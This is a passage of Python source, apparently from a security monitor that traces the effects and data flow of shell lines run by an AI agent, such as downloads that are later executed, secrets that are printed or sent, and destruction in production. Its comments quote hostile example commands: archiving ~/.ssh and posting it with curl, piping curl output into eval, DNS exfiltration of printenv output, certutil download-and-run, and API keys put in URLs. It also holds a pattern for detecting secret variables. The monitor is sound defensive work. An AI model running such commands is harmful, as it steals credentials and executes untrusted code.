"""The effects of a shell line: each command's effects from the catalogue and its redirects,
then the data flow between the commands of the line.

Data flow: what a command writes keeps the origin of what it wrote (downloaded, decoded,
literal code) and the files it carried (`tar czf /tmp/k.tgz ~/.ssh`); a later command that
runs, installs, sources or sends that file is judged with that origin: `curl -o x URL &&
bash x` executes network code, `tar czf k.tgz ~/.ssh && curl -F f=@k.tgz` sends keys.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import NamedTuple

import re2

from sidecar.code import analyse_code, code_invocations
from sidecar.effects.catalogue import Catalogue, ParsedCommand, effects_of
from sidecar.effects.directory_options import working_directory_of
from sidecar.effects.directory_places import in_directory_place
from sidecar.effects.hosts import host_of
from sidecar.effects.image_names import shadowed_official
from sidecar.effects.inserted_text import PROGRAMS as INSERTING_EDITORS
from sidecar.effects.inserted_text import with_inserted_text
from sidecar.effects.kube_context import context_words, disguises_context, switched_to
from sidecar.effects.model import (
    ENVIRONMENT,
    EVERYDAY,
    HIDDEN_ORIGINS,
    PRODUCTION,
    STDIN,
    UNRESOLVED,
    Action,
    CodeAnalysis,
    Effect,
    Origin,
    destroys_in,
    local_facts,
)
from sidecar.effects.model_hubs import with_known_publishers
from sidecar.effects.own_endpoints import is_loopback, with_loopback_ports
from sidecar.effects.package_sources import (
    BENIGN,
    INSECURE,
    PACKAGE_SOURCE,
    STORES_CREDENTIAL,
    UNTRUSTED,
    command_findings,
    findings,
    is_source_variable,
    kind_of,
    merged,
    names_url_secret,
    variable_findings,
    word_findings,
)
from sidecar.effects.paths import normalise
from sidecar.effects.renames import mark_renames
from sidecar.effects.secret_output import (
    carried_by_words,
    is_metadata_host,
    is_secret_data,
    presented_words,
    printed_variables,
    prints_secrets,
    secret_data,
    secret_variables,
)
from sidecar.effects.transfer_scripts import CLIENTS as TRANSFER_CLIENTS
from sidecar.effects.transfer_scripts import with_sent_files
from sidecar.shell.printing import printed_text
from sidecar.shell.remote_runners import REMOTE_VIAS
from sidecar.shell.walk import (
    ShellAnalysis,
    SimpleCommand,
    find_matches_below,
    trusted_generator,
)
from sidecar.shell.walk import analyse as shell_analyse

_HARMLESS_TARGETS = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"})
_OUTPUT_ORIGINS = {
    "network": Origin.NETWORK,
    "decoded": Origin.DECODED,
    "literal": Origin.LITERAL,
    "printf": Origin.LITERAL,
}
# Commands the walk records for the shell's own bookkeeping.
_BOOKKEEPING = frozenset({"(assign)", "export", "declare", "local", "readonly", "typeset", "unset"})
_SHELL_HISTORY = "~/.bash_history"  # what `history` prints, secrets typed on command lines too
_ENV_PRINTERS = frozenset({"env", "printenv", "set", "export", "declare", "typeset"})
# Programs that unpack archives: what they extract keeps the archive's origin.
_UNPACKERS = frozenset({"tar", "unzip", "7z", "gunzip", "bunzip2", "unxz", "cpio", "ar"})
# What a read-only line may do: read files and fetch from the network (a GET that prints).


class LineEffects(NamedTuple):
    effects: tuple[Effect, ...]
    unknown_programs: tuple[str, ...]  # programs the catalogue does not know
    read_only: bool  # every command is a known read-only one, writing nothing
    problems: tuple[str, ...] = ()  # what code given to interpreters left unresolved
    cwd: str = ""  # where the line's last `cd` leaves the shell ("" = where it started)
    spawned: tuple[ShellAnalysis, ...] = ()  # command lines that code in the line runs


@dataclass(slots=True)
class _Flow:
    """What the line has produced so far, by path."""

    origins: dict[str, Origin] = field(default_factory=dict)  # file -> origin of its content
    contents: dict[str, str] = field(default_factory=dict)  # file -> literal content written
    carried: dict[str, tuple[str, ...]] = field(default_factory=dict)  # file -> sources in it
    unpacked: Origin = Origin.NONE  # an archive of this origin was unpacked into the workspace
    outputs: dict[int, tuple[Origin, tuple[str, ...], str]] = field(default_factory=dict)
    cwd: str = ""  # where `cd` moved the line to, when known ("" = the call's own directory)
    trees: dict[str, Origin] = field(default_factory=dict)  # directory -> origin of all in it
    # Secrets printed in the line (`printenv KEY | xxd -p | while read c; do dig $c.x`): the
    # last ones printed, and the variables `read` filled with them.
    secrets: tuple[str, ...] = ()
    secret_variables: dict[str, tuple[str, ...]] = field(default_factory=dict)
    kube_context: str = ""  # the Kubernetes context made current, when known
    written: set[str] = field(default_factory=set)  # every file or folder the line wrote


def line_effects(
    analysis: ShellAnalysis,
    catalogue: Catalogue,
    code_effects: Callable[[SimpleCommand], Iterable[Effect]] | None = None,
    depth: int = 0,
    written: Sequence[Effect] = (),
    kube_context: str = "",
) -> LineEffects:
    """`written`: files code wrote before it ran this line (a download saved, then run);
    `kube_context`: the Kubernetes context an earlier call made current."""
    flow = _Flow(kube_context=kube_context)
    _remember(written, flow, Origin.NONE, ())
    effects: list[Effect] = []
    unknown: list[str] = []
    problems: list[str] = []
    spawned: list[ShellAnalysis] = []
    read_only = not analysis.problems and not analysis.parse_error
    for command in analysis.commands:
        effects.extend(_source_settings(command, catalogue))
        if command.program in _BOOKKEEPING and not _prints_variables(command):
            continue
        found, known, quiet = _command_effects(command, catalogue, flow)
        if flow.cwd and flow.cwd != UNRESOLVED and found:
            # `cd infra/envs/prod && terraform destroy`: the place the line went to
            found = in_directory_place(found, flow.cwd, catalogue)
        if command.program in _INSTALLERS_OF_FILES:
            found = [_project_hook(e, flow) for e in found]
        if command.program in _CHANGES_DIRECTORY:
            _change_directory(command, flow)  # after its own effects: `cd x` reads x here
        switched = switched_to(command)
        if switched is not None:
            flow.kube_context = switched
        if disguises_context(command):
            found.append(Effect(Action.WRITE, _KUBECONFIG, program=command.program))
        if code_effects is not None:
            found.extend(code_effects(command))
        spawned_before = len(spawned)
        code_found, code_problems = _interpreted(command, catalogue, flow, depth, spawned)
        # Inline code (`pwsh -Command 'Get-Content x -Tail 50'`, `python3 -c 'print(...)'`)
        # that only reads, starts nothing and leaves nothing unresolved reads only.
        code_reads_only = (
            not quiet
            and not code_problems
            and len(spawned) == spawned_before
            and all(e.action in _LOOKS for e in code_found)
            and bool(code_invocations(command.program, command.args, command.stdin_text))
        )
        code_found = _fed_secrets_sent(command, code_found, catalogue, flow)
        code_found = [_loaded_from_line(e, flow) for e in code_found]
        code_found = _in_the_commands_place(code_found, found, command, catalogue)
        if command.via.startswith(REMOTE_VIAS):
            found = _at_remote_place(
                found + _remote_session(command, catalogue), command.via, catalogue
            )
            code_found = _at_remote_place(code_found, command.via, catalogue)
        if code_found or code_problems:
            if flow.cwd:
                code_found = [rebased(effect, flow.cwd) for effect in code_found]
            found.extend(code_found)
            problems.extend(code_problems)
            read_only = read_only and code_reads_only
            _remember(code_found, flow, Origin.NONE, ())  # later commands run what it wrote
        if not known:
            unknown.append(command.program)
            read_only = False
            found.extend(_operand_reads(command))
        elif not (quiet or code_reads_only) or any(
            e.action not in _LOOKS and "runs_read_only" not in e.flags for e in found
        ):
            read_only = False
        effects.extend(found)
    read_only = read_only and bool(effects or analysis.commands)
    if flow.secrets:  # some command printed a credential
        effects.extend(_shown_secrets(analysis.commands, flow))
    return LineEffects(
        tuple(_filled_later(effects, flow)),
        tuple(dict.fromkeys(unknown)),
        read_only,
        tuple(dict.fromkeys(problems)),
        flow.cwd,
        tuple(spawned),
    )


SHOWN = "(the agent's terminal)"
_SHOWN = frozenset({"shown"})
_TO_FILE = frozenset({">", ">>", "&>", ">|", "&>>"})
_DUPLICATES = frozenset({">&", "<&"})
_PRINTERS = frozenset({"echo", "printf", "cat", "tee"})
_CONSOLES = frozenset({"/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/fd/1", "/dev/fd/2"})


def _shown_secrets(commands: Sequence[SimpleCommand], flow: _Flow) -> list[Effect]:
    """A credential a command prints where nothing takes it (no pipe, no file, no `$(...)`)
    ends up in the agent's context: `gh auth token`, `echo $(vault kv get ...)`. Presented
    to a login (`| docker login --password-stdin`) or kept in a variable, it is not."""
    consumed = {id(c.input_from) for c in commands if c.input_from is not None}
    substituted = "\n".join(
        w for c in commands for w in (*c.args, *c.environment) if "$(" in w or "`" in w
    )
    found: list[Effect] = []
    for command in commands:
        output = flow.outputs.get(id(command))
        markers = tuple(m for m in output[1] if is_secret_data(m)) if output else ()
        if not markers or id(command) in consumed:
            continue
        if any(r.operator in _TO_FILE and r.target not in _CONSOLES for r in command.redirects):
            continue
        if command.program and command.program in substituted:
            continue  # the output of `$(...)`: into a word, a variable, an argument
        if not _STDIN_PRESENTS.isdisjoint(command.args):
            continue  # `| docker login --password-stdin`: used as a credential, not printed
        source = command.input_from
        fed_by_word = source is not None and any(
            "$(" in w and source.program in w for w in command.args
        )
        if fed_by_word and command.program not in _PRINTERS:
            continue  # `curl -H "Authorization: $(gh auth token)"`: presented, not printed
        found.append(
            Effect(Action.READ, SHOWN, data=markers, flags=_SHOWN, program=command.program)
        )
    return found


def _fed_secrets_sent(
    command: SimpleCommand, found: list[Effect], catalogue: Catalogue, flow: _Flow
) -> list[Effect]:
    """Code fed a secret on standard input that sends data it does not name (`gh auth token
    | python3 -c '...urlopen(URL, sys.stdin.read())'`) may send the secret."""
    if command.input_from is None or not any(e.action is Action.SEND for e in found):
        return found
    fed = tuple(s for s in _input_of(command, catalogue, flow)[1] if is_secret_data(s))
    if not fed:
        return found
    return [
        e._replace(data=tuple(dict.fromkeys(e.data + fed)))
        if e.action is Action.SEND and ("unresolved" in e.flags or not e.data or "?" in e.data)
        else e
        for e in found
    ]


def _filled_later(effects: list[Effect], flow: _Flow) -> list[Effect]:
    """Hooks run later: a hooks or template directory set first and filled from the network
    later in the line (`git config init.templateDir d && curl ... | tar x -C d`) is code
    from the network, as if filled first."""
    found = effects
    for index, effect in enumerate(effects):
        if (
            effect.action is Action.PERSIST
            and "hooks_path" in effect.flags
            and effect.origin is Origin.NONE
        ):
            produced = _file_origin(effect.target, flow)
            inside = effect.target.rstrip("/") + "/"
            below = [o for path, o in flow.origins.items() if path.startswith(inside)]
            if below:  # wget -O dir/hooks/post-checkout URL
                produced = _strongest([produced, *below])
            if produced is not Origin.FILE and produced is not Origin.NONE:
                found = list(found) if found is effects else found
                found[index] = effect._replace(origin=produced)
    return found


_KUBECONFIG = normalise("~/.kube/config")
_CHANGES_DIRECTORY = frozenset({"cd", "pushd", "chdir"})
_SHELL_PROGRAMS = frozenset(
    {"sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "csh", "tcsh", "busybox-sh"}
)


def _runs_dynamic_code(command: SimpleCommand, parsed: ParsedCommand) -> bool:
    """A shell's -c script or eval's text known only at run time."""
    if command.program in ("eval", "source", "."):
        if trusted_generator(command.input_from):
            return False  # eval "$(direnv hook bash)": a local setup tool's code
        return any(type(w) is not str for w in command.args)
    if command.program in _SHELL_PROGRAMS and "command" in parsed.named:
        return bool(parsed.operands) and type(parsed.operands[0]) is not str
    return False


def _change_directory(command: SimpleCommand, flow: _Flow) -> None:
    """`cd ~ && python3 -m http.server`: later relative paths are below the new place."""
    target = next((w for w in command.positionals if w != "-"), "~")
    if type(target) is not str:
        flow.cwd = UNRESOLVED  # `cd "$X"`: where is known only at run time
        return
    if target.startswith(("/", "~")):
        flow.cwd = normalise(target)
    elif flow.cwd and flow.cwd != UNRESOLVED:
        flow.cwd = normalise(flow.cwd + "/" + target)
    else:
        flow.cwd = normalise(target)  # below (or, with .., out of) where the line started


def rebased(effect: Effect, cwd: str) -> Effect:
    """A relative path after a `cd` is below where the line went."""
    target = effect.target
    data = effect.data
    if effect.action in _PATH_ACTIONS and _relative(target):
        target = _join(cwd, target)
    if data and any(_relative(d) for d in data):
        data = tuple(_join(cwd, d) if _relative(d) else d for d in data)
    if target is effect.target and data is effect.data:
        return effect
    return effect._replace(target=target, data=data)


def _relative(path: str) -> bool:
    return bool(path) and not path.startswith(("/", "~", "?", "(")) and path != STDIN


def _join(cwd: str, path: str) -> str:
    if cwd == UNRESOLVED:
        return UNRESOLVED + "/" + path if path != "." else UNRESOLVED
    return normalise(cwd + "/" + path) if path != "." else cwd


_MAX_CODE_DEPTH = 3
_INTERPRETER_LANGUAGES = {
    "python": "python", "python2": "python", "python3": "python", "pypy": "python",
    "pypy3": "python", "node": "javascript", "nodejs": "javascript", "deno": "javascript",
    "bun": "javascript", "ruby": "ruby", "perl": "perl", "php": "php", "pwsh": "powershell",
    "powershell": "powershell",
}  # fmt: skip
# Programs that run a script file named among their operands, not always the first
# (`npx tsx f.ts`, `go run main.go`, `dotnet script x.csx`).
_SCRIPT_RUNNERS = frozenset({
    "tsx", "ts-node", "ts-node-esm", "esno", "esrun", "vite-node", "npx", "bunx", "pnpx",
    "pnpm", "yarn", "go", "Rscript", "R", "lua", "luajit", "julia", "dotnet", "java",
    "kotlinc", "kotlin", "swift", "groovy", "osascript", "elixir", "scala", "dart",
    "cscript", "wscript", "tclsh", "crystal", "nim",
})  # fmt: skip
_SUFFIX_LANGUAGES = {
    ".py": "python", ".js": "javascript", ".mjs": "javascript", ".cjs": "javascript",
    ".ts": "javascript", ".mts": "javascript", ".cts": "javascript", ".rb": "ruby",
    ".pl": "perl", ".php": "php", ".ps1": "powershell",
    # Build scripts in languages read by their literals (sidecar.code.generic): what they
    # start, delete, write and connect to.
    ".rs": "generic", ".go": "generic", ".gradle": "generic", ".kts": "generic",
    ".groovy": "generic", ".java": "generic", ".kt": "generic", ".cs": "generic",
    ".swift": "generic", ".lua": "generic", ".rake": "ruby",
    ".applescript": "generic",  # osascript FILE: its `do shell script` strings
    ".R": "generic", ".r": "generic", ".jl": "generic", ".csx": "generic", ".exs": "generic",
    ".dart": "generic", ".scala": "generic", ".tcl": "generic", ".jsx": "javascript",
    ".tsx": "javascript",
}  # fmt: skip


def _find_deletes_matches(found: list[Effect], command: SimpleCommand) -> list[Effect]:
    """`find /tmp -name 'pytest-*' -delete` deletes what the name matches at any depth below
    the root, not the root: judged as the glob `/tmp/**/pytest-*`."""
    changed: list[Effect] = []
    for effect in found:
        globs: list[str] = []
        if effect.action is Action.DELETE and effect.target not in (UNRESOLVED, STDIN):
            globs = find_matches_below(command.args, effect.target)
        changed.extend([effect._replace(target=g) for g in globs] if globs else [effect])
    return changed


def _prints_variables(command: SimpleCommand) -> bool:
    """`export -p`, `declare -x`, `declare -p`, `typeset`: with no names they print every
    (exported) variable, API keys included."""
    return command.program in ("export", "declare", "typeset") and not command.positionals


def _interpreted(
    command: SimpleCommand,
    catalogue: Catalogue,
    flow: _Flow,
    depth: int,
    spawned: list[ShellAnalysis] | None = None,
) -> tuple[list[Effect], list[str]]:
    """Effects of code a command hands to an interpreter (`python3 -c`, `node -e`, a
    here-document, a script written earlier in the line), and what it left unresolved."""
    if depth > _MAX_CODE_DEPTH:
        return [], []
    stdin = command.stdin_text
    if stdin is None and command.input_from is not None:
        known = flow.outputs.get(id(command.input_from))
        if known is not None and known[0] is Origin.LITERAL and known[2]:
            stdin = known[2]  # echo 'code' | python3
    invocations = list(code_invocations(command.program, command.args, stdin))
    language = _INTERPRETER_LANGUAGES.get(command.program) or (
        "python" if command.program.startswith("python") else ""
    )
    if not invocations:
        invocations.extend(_script_written_earlier(command, language, flow))
    found: list[Effect] = []
    problems: list[str] = []
    # Code that is wholly a variable or a command's output; code that only mentions `$x`
    # (`pwsh -Command "$out = Join-Path ..."`) is still read as written.
    # Only for commands that hand code over: most commands are not interpreters.
    dynamic = (
        {str(w) for w in command.args if type(w) is not str and _WHOLLY_DYNAMIC.match(str(w))}
        if invocations
        else set()
    )
    for code_language, code in invocations:
        if code in dynamic:
            # `python3 -c "$X"`, `node -e "$(cat x)"`: the code is known only when it runs.
            problems.append(f"{command.program} runs code known only at run time")
            continue
        result = analyse_code(code_language, code)
        problems.extend(result.problems)
        found.extend(
            e._replace(flags=e.flags | _IN_CODE) for e in code_effects(result, code, catalogue)
        )
        for line in result.shell[:32]:
            nested = shell_analyse(line)
            if spawned is not None:
                spawned.append(nested)  # the named rules judge these lines too
            problems.extend(nested.problems)
            if nested.parse_error:
                problems.append("code runs a command line that cannot be parsed")
            sub = line_effects(nested, catalogue, depth=depth + 1, written=found)
            found.extend(sub.effects)
            problems.extend(sub.problems)
            if spawned is not None:
                spawned.extend(sub.spawned)
    return found, problems


# A script in a folder every user and process may write to, that neither this line nor
# (sidecar.inspection.session_flow) this session wrote: who put it there is not known.
UNSEEN_FILE = frozenset({"unseen_file"})
_SHARED_TEMP = ("/tmp/", "/var/tmp/", "/dev/shm/", "/private/tmp/")  # noqa: S108 (names matched)


def in_shared_temp(path: str) -> bool:
    return path.startswith(_SHARED_TEMP) and "*" not in path and "?" not in path


def code_effects(result: CodeAnalysis, code: str, catalogue: Catalogue) -> list[Effect]:
    """The effects of analysed code as the rules judge them: paths normalised, publishers
    and named places applied. Code that downloads and writes a file holds the download in
    that file, since which bytes went where cannot be told
    (`https.get(u, r => r.pipe(fs.createWriteStream(p)))`)."""
    effects = with_known_publishers(list(result.effects), catalogue)
    effects = in_named_place(effects, code, catalogue)
    downloads = any(e.action is Action.FETCH for e in effects)
    written = {normalise(e.target) for e in effects if e.action is Action.WRITE}
    found: list[Effect] = []
    for effect in effects:
        target = effect.target
        if effect.action in _PATH_ACTIONS and target not in (STDIN, UNRESOLVED):
            target = normalise(target)
        origin, flags = effect.origin, effect.flags
        if downloads and effect.action is Action.WRITE and origin is Origin.NONE:
            origin = Origin.NETWORK
        if (
            effect.action is Action.EXECUTE
            and origin is Origin.FILE
            and target not in written
            and in_shared_temp(target)
        ):
            flags = flags | UNSEEN_FILE  # exec(open('/tmp/x.py').read())
        found.append(effect._replace(target=target, origin=origin, flags=flags))
    return found


def _script_written_earlier(
    command: SimpleCommand, language: str, flow: _Flow
) -> list[tuple[str, str]]:
    """The script a command runs when the line wrote it earlier: an interpreter's first
    operand, or for a runner (`npx tsx f.ts`, `go run main.go`, `bun run x.ts`, `Rscript
    a.R`) the first operand the line wrote, in the language its name says."""
    words = [a for a in command.positionals if type(a) is str]
    if language and words:
        content = flow.contents.get(normalise(words[0]))
        if content:
            return [(language, content)]
    if language or command.program in _SCRIPT_RUNNERS:
        for word in words[:8]:
            content = flow.contents.get(normalise(word))
            if content and script_language(word):
                return [(script_language(word), content)]
    return []


def in_named_place(effects: list[Effect], code: str, catalogue: Catalogue) -> list[Effect]:
    """What code destroys is in production when the code names such a place (a host, a
    database, a connection string): `create_engine('postgresql://db.prod...')`."""
    if not any(e.action is Action.DESTROY for e in effects):
        return effects
    if catalogue.pattern_matches("production", code):
        return destroys_in(effects, PRODUCTION)
    if catalogue.pattern_matches("disposable_data", code):
        return destroys_in(effects, EVERYDAY)  # `connect('test.db')`, `:memory:`: dev data
    return effects


def _in_the_commands_place(
    code_found: list[Effect], found: list[Effect], command: SimpleCommand, catalogue: Catalogue
) -> list[Effect]:
    """Where a command runs code (`RAILS_ENV=production rails runner`, `manage.py shell
    --settings=...production`, `DATABASE_URL=postgresql://prod-db/app python -c ...`), what
    the code destroys is in that place."""
    if code_found and (
        any(PRODUCTION & e.flags for e in found)
        or any(catalogue.pattern_matches("production", v) for v in command.environment)
    ):
        return destroys_in(code_found, PRODUCTION)
    return code_found


_REMOTE = frozenset({"remote"})
_SHELL_PROGRAMS = frozenset({"sh", "bash", "zsh", "ash", "dash", "ksh", "fish", "busybox"})


def _remote_session(command: SimpleCommand, catalogue: Catalogue) -> list[Effect]:
    """What a command run in production does beyond its own effects: a bare shell there is
    a session on that host, able to do anything (`kubectl exec -it -n prod api -- bash`).
    In a dev pod it is everyday debugging."""
    if command.positionals or command.stdin_text is not None or command.input_from:
        return []
    if command.program in _SHELL_PROGRAMS and _in_production_elsewhere(command, catalogue):
        return [Effect(Action.EXECUTE, command.program, program=command.program)]
    return []


def _in_production_elsewhere(command: SimpleCommand, catalogue: Catalogue) -> bool:
    return command.via.startswith(REMOTE_VIAS) and catalogue.pattern_matches(
        "production", command.via
    )


def _at_remote_place(effects: list[Effect], via: str, catalogue: Catalogue) -> list[Effect]:
    """Effects of a command run elsewhere carry `remote`, and `production` when the place
    (host, app, pod, namespace, targets) is named as production."""
    flags = _REMOTE | PRODUCTION if catalogue.pattern_matches("production", via) else _REMOTE
    return [e._replace(flags=e.flags | flags) for e in effects]


def script_language(path: str) -> str:
    """The language of a script file, by its suffix ("" if not one we analyse)."""
    for suffix, language in _SUFFIX_LANGUAGES.items():
        if path.endswith(suffix):
            return language
    return ""


_IN_CODE = frozenset({"in_code"})
_PATH_ACTIONS = frozenset(
    {Action.READ, Action.WRITE, Action.DELETE, Action.MOVE, Action.CHMOD, Action.CHOWN,
     Action.EXECUTE, Action.PERSIST}
)  # fmt: skip


def _command_effects(
    command: SimpleCommand, catalogue: Catalogue, flow: _Flow
) -> tuple[list[Effect], bool, bool]:
    """The command's effects, whether the catalogue knows it, and whether it only reads."""
    input_origin, input_sources, input_text = _input_of(command, catalogue, flow)
    program, args = _module_as_program(command)
    environment = command.environment + context_words(command, flow.kube_context)
    parsed, catalogued = catalogue.read(program, args, environment, input_origin, input_text)
    found: list[Effect] = []
    output_origin = Origin.NONE
    output_sources: tuple[str, ...] = ()
    output_text = ""
    read_only = False
    if command.word:
        path = normalise(command.word)
        found.append(
            Effect(
                Action.EXECUTE,
                path,
                _file_origin(path, flow),
                flags=_content_flag(path, flow),
                program=command.program,
                content=flow.contents.get(path, ""),
            )
        )
    elif parsed is None and program != command.program and _MODULE.fullmatch(program):
        # `python -m helper`: a module Python finds first in the working directory; a
        # package runs its `__main__.py`, and importing it runs each `__init__.py` above.
        parts = program.split(".")
        paths = [
            "/".join(parts) + ".py",
            "/".join(parts) + "/__main__.py",
            *("/".join(parts[:depth]) + "/__init__.py" for depth in range(1, len(parts) + 1)),
        ]
        for path in paths[:_MAX_MODULE_FILES]:
            found.append(
                Effect(Action.EXECUTE, path, _file_origin(path, flow), flags=_MODULE_RUN,
                       program=command.program, content=flow.contents.get(path, ""))
            )  # fmt: skip
    elif flow.origins.get(command.program) in HIDDEN_ORIGINS:
        # `certutil -urlcache -f URL p.exe && p.exe`: Windows runs a program from the working
        # directory before PATH (and a PATH holding `.` does too): the download runs.
        found.append(
            Effect(
                Action.EXECUTE,
                command.program,
                flow.origins[command.program],
                flags=_content_flag(command.program, flow),
                program=command.program,
            )
        )
    if parsed is not None:
        spec = parsed.spec
        read_only = spec.read_only or (
            bool(spec.read_only_unless) and spec.read_only_unless.isdisjoint(parsed.named)
        )
        if read_only and command.word and found and found[0].action is Action.EXECUTE:
            # `./gradlew dependencies`: the project's wrapper of a known program, run to read.
            found[0] = found[0]._replace(flags=found[0].flags | _RUNS_READ_ONLY)
        moved = working_directory_of(command)  # `git -C ~ clean -fd`
        if moved and moved != UNRESOLVED:
            moved = normalise(moved)
        found.extend(rebased(e, moved) for e in catalogued) if moved else found.extend(catalogued)
        if spec.decodes_when and not spec.decodes_when.isdisjoint(parsed.named):
            output_origin = Origin.DECODED
            output_sources = input_sources + tuple(
                e.target for e in found if e.action is Action.READ
            )
        elif spec.output != "none" and (not spec.output_when or spec.output_when & parsed.named):
            if spec.output == "input":
                output_origin, output_sources, output_text = (
                    input_origin,
                    input_sources,
                    input_text,
                )
            elif spec.output == "files":
                reads = [e.target for e in found if e.action is Action.READ]
                output_sources = tuple(reads) + input_sources
                output_origin = _strongest([_file_origin(p, flow) for p in reads] + [input_origin])
                if not reads:
                    output_text = input_text  # cat > x.sh <<EOF: what it was fed
            elif spec.output == "repository":
                output_origin, output_sources = Origin.FILE, (".",)
            elif spec.output == "local_facts":
                output_origin, output_sources = Origin.FILE, (local_facts(program),)
            elif spec.output == "shell_history":
                output_origin, output_sources = Origin.FILE, (_SHELL_HISTORY,)
            else:
                output_origin = _OUTPUT_ORIGINS[spec.output]
                if spec.output in ("literal", "printf"):
                    output_text = printed_text(command.program, command.args)
        runs_stdin = spec.runs_stdin and not parsed.operands and _STDIN_OFF.isdisjoint(parsed.named)
        if runs_stdin and command.input_from is not None:
            found.append(
                Effect(Action.EXECUTE, STDIN, input_origin, input_sources, program=command.program,
                       content=input_text)
            )  # fmt: skip
        if runs_stdin and command.stdin_text is not None:
            found.append(
                Effect(Action.EXECUTE, STDIN, Origin.LITERAL, program=command.program,
                       content=command.stdin_text)
            )  # fmt: skip
    if command.program in _ENV_PRINTERS and not command.positionals:
        output_sources = (ENVIRONMENT,)
    secrets = _printed_secrets(command, parsed, program, args, found, input_sources, flow)
    if output_sources == (ENVIRONMENT,) and _in_production_elsewhere(command, catalogue):
        # `ssh prod-web-1 env`, `kubectl exec -n prod api -- printenv`: a production app's
        # environment holds its database passwords and API keys.
        secrets = (*secrets, secret_data(f"{command.program} on {command.via}"))
    if secrets:
        output_sources = tuple(dict.fromkeys((*output_sources, *secrets)))
        flow.secrets = secrets
    if parsed is not None and _runs_dynamic_code(command, parsed):
        # `bash -c "$X"` with X=$(curl ...), `eval "$(curl ...)"`: the code is what feeds it.
        found.append(Effect(Action.EXECUTE, STDIN, program=command.program))
    if parsed is not None and any(e.action in _NETWORK for e in found):
        found.extend(_secrets_sent(command, parsed.options, found))
    if parsed is not None and "custom_index" in parsed.named:
        found = _trusted_indexes(found, parsed, catalogue)
    if flow.cwd:
        found = [rebased(effect, flow.cwd) for effect in found]  # after `cd` in the line
    if program == "mv":
        found = mark_renames(found)
    found = with_loopback_ports(found, command)
    if program == "find":
        found = _find_deletes_matches(found, command)
    elif program in INSERTING_EDITORS:
        found = with_inserted_text(found, program, args, input_text)
    elif program in TRANSFER_CLIENTS:
        found = with_sent_files(found, program, args, input_text)
    fed = command.input_from
    if command.via == "xargs" and fed is not None and fed.program in _PROCESS_LOOKUPS:
        # `pgrep -f sidecar | xargs kill`: the pids are the lookup's, like `kill $(pgrep ...)`.
        named = f"$({' '.join((fed.program, *fed.args))[:200]})"
        found = [
            e._replace(target=named) if e.action is Action.KILL and e.target == _XARGS_INPUT else e
            for e in found
        ]
    if command.via == "xargs" and fed is not None and fed.program == "find":
        # `find DIR ... | xargs cat`: it reads the files below DIR, not DIR itself.
        found = [
            e._replace(flags=e.flags | {"recursive"})
            if e.action is Action.READ and e.target not in (UNRESOLVED, STDIN)
            else e
            for e in found
        ]
    found = [_with_flow(effect, flow, input_origin, input_sources, input_text) for effect in found]
    if parsed is not None and (
        flow.secrets
        or any(map(is_secret_data, input_sources))
        or (any(e.action in _NETWORK for e in found) and _substitutes(command.args))
    ):
        found = _secret_sends(command, parsed, found, input_sources, flow, catalogue)
    found = _package_edits(command, found, catalogue)
    read_here = tuple(e.target for e in found if e.action is Action.READ)
    if read_here:  # tar czf k.tgz ~/.ssh: the archive carries what it read
        found = [
            e._replace(data=read_here) if e.action is Action.WRITE and not e.data else e
            for e in found
        ]
    found.extend(_redirect_effects(command, output_origin, output_sources, output_text, flow))
    place = parsed.named & PRODUCTION if parsed is not None else frozenset()
    if place:  # `mysql -h mysql-prod < x.sql`: what it reads on stdin runs in production
        found = [e._replace(flags=e.flags | place) if "stdin_file" in e.flags else e for e in found]
    if not _ROOT_WRAPPERS.isdisjoint(command.wrappers):
        # `sudo killall postgres`: as root, a kill reaches processes the agent did not start.
        found = [
            e._replace(flags=e.flags | _AS_ROOT) if e.action is Action.KILL else e for e in found
        ]
    _remember(found, flow, output_origin, output_sources, input_origin)
    flow.outputs[id(command)] = (output_origin, output_sources, output_text)
    return found, parsed is not None, read_only


_PYTHONS = frozenset({"python", "python3", "python2", "pypy", "pypy3"})
_PROCESS_LOOKUPS = frozenset({"pgrep", "pidof", "lsof", "fuser", "ps", "ss", "netstat", "awk"})
_XARGS_INPUT = "$(xargs input)"


def _module_as_program(command: SimpleCommand) -> tuple[str, tuple[str, ...]]:
    """`python3 -m pip install x` is `pip install x`; `python -m http.server` is `http.server`."""
    program, args = command.program, command.args
    if program in _PYTHONS or (
        program.startswith("python") and program[6:].replace(".", "").isdigit()
    ):
        for index, word in enumerate(args):
            if word == "-m" and index + 1 < len(args):
                return args[index + 1], args[index + 2 :]
            if word.startswith("-m") and len(word) > 2:
                return word[2:], args[index + 1 :]
            if not word.startswith("-"):
                break
    return program, args


_MODULE = re2.compile(r"[A-Za-z_][A-Za-z0-9_]*(\.[A-Za-z_][A-Za-z0-9_]*)*")
_MODULE_RUN = frozenset({"module"})
_NETWORK = frozenset({Action.SEND, Action.FETCH, Action.CONNECT})
_MAX_MODULE_FILES = 8  # a module's own file, its __main__.py and the packages' __init__.py
_LOOKS = frozenset({Action.READ, Action.FETCH})  # what read-only commands may do
_RUNS_READ_ONLY = frozenset({"runs_read_only"})
# `$GITHUB_TOKEN`, `${OPENAI_API_KEY}`: variables that hold secrets by their name.
_VARIABLE_REFERENCE = re2.compile(r"\$\{?[A-Za-z_][A-Za-z0-9_]*\}?|\$\([^)]*\)")
_SECRET_VARIABLE = re2.compile(
    r"\$\{?([A-Za-z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|"
    r"CREDENTIALS?|AUTH|SESSION_?KEY)[A-Za-z0-9_]*)\}?",
    re2.Options(),
)
# Options through which a program presents a credential to the host it talks to (using a
# token is not leaking it): curl -H 'Authorization: Bearer $TOKEN', -u user:$PASSWORD.
_CREDENTIAL_OPTIONS = frozenset(
    {"-H", "--header", "-u", "--user", "--oauth2-bearer", "--proxy-user", "-U", "--http-user",
     "--http-password", "--password", "--aws-sigv4", "-E", "--cert", "--key"}
)  # fmt: skip


def _secrets_sent(
    command: SimpleCommand, options: Mapping[str, tuple[str, ...]], effects: Sequence[Effect]
) -> list[Effect]:
    """A secret variable in a URL or body leaves the machine (`curl x.io/?k=$OPENAI_API_KEY`);
    the same variable in an auth header, sent to its own service, is just its use."""
    presented = {v for name in _CREDENTIAL_OPTIONS for v in options.get(name, ())}
    # A secret sent to this machine's own services (a local Label Studio, a dev server)
    # does not leave it.
